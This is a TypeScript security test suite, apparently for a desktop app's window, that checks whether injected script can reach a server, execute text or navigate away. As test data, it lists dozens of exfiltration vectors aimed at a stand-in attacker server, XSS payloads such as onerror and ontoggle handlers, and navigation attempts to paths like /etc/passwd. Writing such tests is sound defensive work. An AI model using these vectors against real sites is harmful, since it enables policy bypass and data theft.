/**
 * What a script could do that got into the window: each attack is run from inside, with the driver in
 * place of a vulnerability. The page's policy doesn't cover the driver's own scripts, so what the policy
 * forbids is also tried through elements of the page's document.
 */
import assert from "node:assert/strict";
import type { WebDriver } from "selenium-webdriver";
import { type Attacker, withAttacker } from "../harness/attacker";
import type { Harness } from "../harness/harness";
import { journey } from "../harness/journey";
import { waitFor } from "../harness/processes";
import { assertUnmoved } from "../harness/window";

/** How long the control's requests may take to arrive, in milliseconds. */
const CONTROL_TIMEOUT = 5_000;

/** Registers a journey with an attacker's server. */
function attack(name: string, run: (harness: Harness, attacker: Attacker) => Promise<void>): void {
  journey(name, (harness) => withAttacker(harness, run));
}

/** Ways to reach a server without leaving the page. `to` is the server's URL. */
const REQUESTS: Record<string, string> = {
  fetch: "fetch(to)",
  "fetch without CORS": "fetch(to, { mode: 'no-cors', method: 'POST', body: 'x' })",
  XMLHttpRequest: "const r = new XMLHttpRequest(); r.open('GET', to); r.send()",
  sendBeacon: "navigator.sendBeacon(to, 'x')",
  EventSource: "new EventSource(to)",
  WebSocket: "new WebSocket(to.replace('http', 'ws'))",
  "dynamic import": "import(to + '.js')",
  Image: "new Image().src = to",
  Audio: "new Audio(to).load()",
  "script element": "add('script', { src: to + '.js' })",
  "module script": "add('script', { type: 'module', src: to + '.js' })",
  "img element": "add('img', { src: to })",
  "img srcset": "add('img', { srcset: to })",
  "svg image":
    "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); document.body.append(s);" +
    "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image');" +
    "i.setAttribute('href', to); s.append(i)",
  "video poster": "add('video', { poster: to })",
  stylesheet: "add('link', { rel: 'stylesheet', href: to })",
  preload: "add('link', { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: to })",
  modulepreload: "add('link', { rel: 'modulepreload', href: to + '.js' })",
  iframe: "add('iframe', { src: to })",
  "frame with its own document": "add('iframe', { srcdoc: `<img src='${to}'>` })",
  object: "add('object', { data: to })",
  embed: "add('embed', { src: to })",
  "background of an element": "add('div', { textContent: 'x' }).style.background = `url(${to})`",
  "background in a style sheet": "add('style', { textContent: `body { background: url(${to}) }` })",
  "import in a style sheet": "add('style', { textContent: `@import url(${to})` })",
  "markup with an image": "document.body.insertAdjacentHTML('beforeend', `<img src='${to}'>`)",
  "form into a frame":
    "add('iframe', { name: 'sink' }); const f = add('form', { action: to, method: 'post', target: 'sink' }); f.submit()",
  "frame of a script address": "add('iframe', { src: `javascript:fetch('${to}')` })",
  "worker of a blob":
    "new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`], { type: 'text/javascript' })))",
};

/** More ways, which only some browsers or only pages of the same origin request. */
const UNCONTROLLED_REQUESTS: Record<string, string> = {
  prefetch: "add('link', { rel: 'prefetch', href: to })",
  "dns-prefetch": "add('link', { rel: 'dns-prefetch', href: to })",
  preconnect: "add('link', { rel: 'preconnect', href: to })",
  Worker: "new Worker(to + '.js')",
  SharedWorker: "new SharedWorker(to + '.js')",
  "service worker": "navigator.serviceWorker.register(to + '.js')",
  "worker of a data address": "new Worker(`data:text/javascript,fetch('${to}')`)",
  manifest: "add('link', { rel: 'manifest', href: to })",
  icon: "add('link', { rel: 'icon', href: to })",
  WebRTC:
    "new RTCPeerConnection({ iceServers: [{ urls: to.replace('http://', 'stun:').replace(/\\/[^/]*$/, '') }] }).createDataChannel('x')",
  "policy removed": "document.querySelector('meta[http-equiv]')?.remove(); fetch(to)",
  "another base": "add('base', { href: to }); add('img', { src: 'picture' })",
};

/** Ways to leave the page. */
const NAVIGATIONS: Record<string, string> = {
  "location =": "location = to",
  "location.replace": "location.replace(to)",
  "window.open": "window.open(to)",
  "window.open here": "window.open(to, '_self')",
  "window.open above": "window.open(to, '_top')",
  "a link": "add('a', { href: to }).click()",
  "a link to a new window": "add('a', { href: to, target: '_blank' }).click()",
  "a link with a ping": "add('a', { href: '#', ping: to }).click()",
  "a form": "add('form', { action: to }).submit()",
  "a form to a new window":
    "add('form', { action: to, method: 'post', target: '_blank' }).submit()",
  "a refresh": "add('meta', { httpEquiv: 'refresh', content: `0;url=${to}` })",
  "a refresh in written markup":
    "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${to}'>`)",
};

/** Ways to run text as a script. Each adds its name to `executed` where it works. */
const INLINE_SCRIPTS: Record<string, string> = {
  eval: "try { eval(run) } catch { }",
  "new Function": "try { new Function(run)() } catch { }",
  "the constructor of a constructor": "try { [].at.constructor(run)() } catch { }",
  "a timer's text": "try { setTimeout(run, 0) } catch { }",
  "script element": "add('script', { textContent: run })",
  "module script": "add('script', { type: 'module', textContent: run })",
  "script of a blob":
    "add('script', { src: URL.createObjectURL(new Blob([run], { type: 'text/javascript' })) })",
  "script of a data address": "add('script', { src: 'data:text/javascript,' + run })",
  "import of a data address": "import('data:text/javascript,' + run).catch(() => undefined)",
  "onclick attribute": "const b = add('button'); b.setAttribute('onclick', run); b.click()",
  "onerror attribute":
    "document.body.insertAdjacentHTML('beforeend', `<img src='data:,' onerror='${run}'>`)",
  "ontoggle attribute":
    "document.body.insertAdjacentHTML('beforeend', `<details open ontoggle='${run}'>x</details>`)",
  "a link to a script": "add('a', { href: 'javascript:' + run }).click()",
  "location = a script": "location = 'javascript:' + run",
  "frame of a script": "add('iframe', { src: 'javascript:parent.' + run })",
  "frame with its own document": "add('iframe', { srcdoc: `<script>parent.${run}</script>` })",
};

/** The helpers that each of these scripts can call. */
const HELPERS = `
  const add = (name, what = {}) => {
    const element = Object.assign(document.createElement(name), what);
    if (name === "object") element.data = what.data;
    (["link", "meta", "base", "style"].includes(name) ? document.head : document.body).append(element);
    return element;
  };`;

/** Runs one of them, and ignores what it throws: that is the page's protection. */
async function runIn(page: WebDriver, script: string, to = "", name = ""): Promise<void> {
  await page
    .executeScript(
      `const [to, name] = arguments; const run = "top.executed.push(" + JSON.stringify(name) + ")";
       ${HELPERS}
       try { const done = (() => { ${script} })(); done?.catch?.(() => undefined); } catch { }`,
      to,
      name,
    )
    // A script that navigates takes the driver's response with it.
    .catch(() => undefined);
}

/**
 * Waits until the page has run what earlier scripts left for later: timers, then loads, shown by those
 * of a frame and a script, and navigations, which reach the app the same way as the command.
 */
async function settle(page: WebDriver): Promise<void> {
  const settled = await page.executeAsyncScript<boolean>(`
    const done = arguments[arguments.length - 1];
    const loaded = (element) => new Promise((resolve) => {
      element.onload = element.onerror = resolve;
      document.body.append(element);
    });
    const timers = new Promise((resolve) => setTimeout(() => setTimeout(resolve)));
    timers
      .then(() => loaded(document.createElement("iframe")))
      .then(() => loaded(Object.assign(document.createElement("script"), { src: "/no-such.js" })))
      .then(() => window.__TAURI_INTERNALS__.invoke("app_state"))
      .then(() => done(true), () => done(false));`);
  assert.ok(settled, "the core answers");
}

const slug = (name: string) => name.replace(/[^a-z]+/gi, "-");

/** Opens the control in the browser: the attacker's page, which has no policy. */
async function openControl({ browser, desktop }: Harness, attacker: Attacker): Promise<WebDriver> {
  await desktop.openUrl(`${attacker.address}/page`);
  return browser.waitForTab(`${attacker.address}/page`);
}

/** The requests that neither the control nor its page made. */
function uncontrolled({ requests }: Attacker): string[] {
  return requests.filter((path) => !/^\/(control-.*|page|favicon\.ico)$/.test(path));
}

// Shows checks 37 and 38.
attack("script in the window reaches no server", async (harness, attacker) => {
  const { app } = harness;
  await app.start();
  await app.waitForState("signed-out");
  for (const [name, script] of Object.entries({ ...REQUESTS, ...UNCONTROLLED_REQUESTS })) {
    await runIn(app.window, script, `${attacker.address}/window-${slug(name)}`);
  }
  await settle(app.window);
  await assertUnmoved(harness);

  // The control: from an unprotected page each of them gets there. By the time that all of these have
  // arrived, which started later, those of the window would have, too.
  const control = await openControl(harness, attacker);
  for (const [name, script] of Object.entries(REQUESTS)) {
    await runIn(control, script, `${attacker.address}/control-${slug(name)}`);
  }
  const missing = () =>
    Object.keys(REQUESTS).filter(
      (name) => !attacker.requests.some((path) => path.startsWith(`/control-${slug(name)}`)),
    );
  await waitFor(
    "all of them reach the attacker",
    () => missing().length === 0,
    CONTROL_TIMEOUT,
  ).catch(() => undefined);
  assert.deepEqual(missing(), []);
  assert.deepEqual(uncontrolled(attacker), []);
  await assertUnmoved(harness);
});

// Shows check 38.
attack("text is never run as a script in the window", async (harness, attacker) => {
  const { app } = harness;
  const runAll = async (page: WebDriver) => {
    await page.executeScript("window.executed = []");
    for (const [name, script] of Object.entries(INLINE_SCRIPTS)) {
      await runIn(page, script, "", name);
    }
  };
  const executed = async (page: WebDriver) => {
    const names = await page.executeScript<string[]>("return window.executed");
    return Object.keys(INLINE_SCRIPTS).filter((name) => names.includes(name));
  };
  await app.start();
  await app.waitForState("signed-out");
  await runAll(app.window);
  await settle(app.window);
  assert.deepEqual(await executed(app.window), []);
  await assertUnmoved(harness);

  const control = await openControl(harness, attacker);
  await runAll(control);
  const all = Object.keys(INLINE_SCRIPTS);
  await waitFor(
    "all of them are executed",
    async () => (await executed(control)).length === all.length,
    CONTROL_TIMEOUT,
  ).catch(() => undefined);
  assert.deepEqual(await executed(control), all);
});

// Shows checks 1 and 37.
attack("window never navigates and opens nothing", async (harness, attacker) => {
  const { app, desktop } = harness;
  await app.start();
  await app.waitForState("signed-out");
  const secret = desktop.write("secret.html", "<title>secret</title>");
  const elsewhere = [
    `file://${secret}`,
    "data:text/html,<title>elsewhere</title>",
    "about:blank",
    "tauri://elsewhere/",
    "ipc://localhost/app_state",
    "asset://localhost/etc/passwd",
    "co.amiqus.signin://oauth/callback?code=made-up&state=made-up",
  ];
  for (const [name, script] of Object.entries(NAVIGATIONS)) {
    await runIn(app.window, script, `${attacker.address}/window-${slug(name)}`);
    await settle(app.window);
    await assertUnmoved(harness);
  }
  for (const address of elsewhere) {
    for (const way of ["location =", "a link", "window.open", "a link to a new window"]) {
      await runIn(app.window, NAVIGATIONS[way] ?? "", address);
      await settle(app.window);
      await assertUnmoved(harness);
    }
  }
  await runIn(app.window, "history.back(); history.go(-1); history.forward()");
  await settle(app.window);
  await assertUnmoved(harness);

  // The control: by the time that each of these has arrived, those of the window would have, too.
  const control = await openControl(harness, attacker);
  for (const [name, script] of Object.entries(NAVIGATIONS)) {
    const path = `/control-${slug(name)}`;
    await control.get(`${attacker.address}/page`);
    await runIn(control, script, attacker.address + path);
    // Chromium opens a new window only for a user gesture.
    if (/new window|^window\.open$/.test(name)) continue;
    await waitFor(`${name} leads there`, () => attacker.requests.includes(path), CONTROL_TIMEOUT);
  }
  assert.deepEqual(uncontrolled(attacker), []);
  assert.equal((await harness.practice.requests("/oauth/authorize")).length, 0);
  await assertUnmoved(harness);
});
